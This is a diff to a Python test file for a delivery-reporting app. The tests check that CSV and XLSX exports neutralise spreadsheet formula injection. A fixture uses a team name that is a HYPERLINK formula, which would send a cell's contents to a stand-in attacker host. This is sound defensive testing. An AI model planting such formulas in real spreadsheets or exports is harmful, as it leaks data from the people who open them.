@@ -25,6 +25,7 @@ from desk_app.services.delivery.outcomes import record_outcome
 from desk_app.services.delivery.setup import TeamInput, save_team
 from desk_app.services.reporting.report import export_report
 from desk_app.services.reporting.summary import make_period, summarize
+from tests.people import as_person
 from tests.services.delivery.delivery_fixtures import NOW, TUESDAY, approved, make_stock
 
 EVIL_TEAM = '=HYPERLINK("http://kotu.example/?"&A5,"Ekip 1")'
@@ -40,11 +41,11 @@ def test_safe_cell_follows_owasp() -> None:
 
 @pytest.fixture
 def evil_report(db: Database, supervisor: Actor, clerk: Actor) -> object:
-    team, _ = save_team(db, supervisor, TeamInput(EVIL_TEAM, "Üye 1", 3))
-    make_stock(db, supervisor)
-    app = approved(db, clerk, seed=3)
+    team, _ = save_team(as_person(db, supervisor), supervisor, TeamInput(EVIL_TEAM, "Üye 1", 3))
+    make_stock(as_person(db, supervisor), supervisor)
+    app = approved(as_person(db, clerk), clerk, seed=3)
     delivery = book(
-        db, clerk, *app, DeliveryKind.HOME, TUESDAY, team_id=team.id, now=NOW
+        as_person(db, clerk), clerk, *app, DeliveryKind.HOME, TUESDAY, team_id=team.id, now=NOW
     ).delivery.id
     record_outcome(
         db,
@@ -53,13 +54,20 @@ def evil_report(db: Database, supervisor: Actor, clerk: Actor) -> object:
         OutcomeInput(DeliveryOutcome.DELIVERED, received_by="Ayşe Öztürk", relation="Anne"),
         now=NOW + timedelta(days=1, hours=4),
     )
-    return summarize(db, supervisor, make_period("year", year=2025), now=NOW + timedelta(days=2))
+    return summarize(
+        as_person(db, supervisor),
+        supervisor,
+        make_period("year", year=2025),
+        now=NOW + timedelta(days=2),
+    )
 
 
 def test_csv_and_xlsx_reports_never_hold_a_formula(
     db: Database, supervisor: Actor, evil_report: object, tmp_path: Path
 ) -> None:
-    data = export_report(db, supervisor, evil_report, "csv", tmp_path / "r.csv")  # type: ignore[arg-type]
+    data = export_report(
+        as_person(db, supervisor), supervisor, evil_report, "csv", tmp_path / "r.csv"
+    )  # type: ignore[arg-type]
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
     cells = [c for r in rows for c in r]
     assert "'" + EVIL_TEAM in cells
@@ -67,7 +75,7 @@ def test_csv_and_xlsx_reports_never_hold_a_formula(
     assert not [
         c for c in cells if c.startswith("-") and not c.lstrip("-").replace(",", "").isdigit()
     ]
-    export_report(db, supervisor, evil_report, "xlsx", tmp_path / "r.xlsx")  # type: ignore[arg-type]
+    export_report(as_person(db, supervisor), supervisor, evil_report, "xlsx", tmp_path / "r.xlsx")  # type: ignore[arg-type]
     book = load_workbook(tmp_path / "r.xlsx")
     seen = False
     numbers = 0
